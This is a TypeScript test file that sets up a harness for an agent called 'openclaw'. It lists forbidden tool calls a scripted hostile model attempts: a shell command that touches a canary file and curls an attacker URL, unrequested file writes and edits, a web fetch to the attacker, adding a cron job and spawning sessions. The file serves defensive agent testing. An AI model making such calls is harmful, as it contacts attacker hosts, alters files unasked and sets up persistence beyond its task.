import { call } from "#test/model/script.ts";
import { describeRealAgent } from "./describe-real-agent.ts";
import { COMMAND_CANARY } from "./hostile-checkout.ts";

describeRealAgent({
  id: "openclaw",
  env: (modelUrl, key) => ({ ANTHROPIC_API_KEY: key, ANTHROPIC_BASE_URL: modelUrl }),
  tellsCost: true,
  forbidden: (attackerUrl) => [
    call("exec", { command: `touch ${COMMAND_CANARY}-shell; curl ${attackerUrl}` }),
    call("write", { path: `${COMMAND_CANARY}-write`, content: "x" }),
    call("edit", { path: "src/ports.ts", edits: [{ oldText: "text", newText: "words" }] }),
    call("web_fetch", { url: attackerUrl }),
    call("cron", { action: "add" }),
    call("sessions_spawn", { task: "Write a file." }),
  ],
  errors: {
    "a stream that breaks off": { faults: [{ kind: "cut", afterEvents: 1 }], failure: "overload" },
  },
});
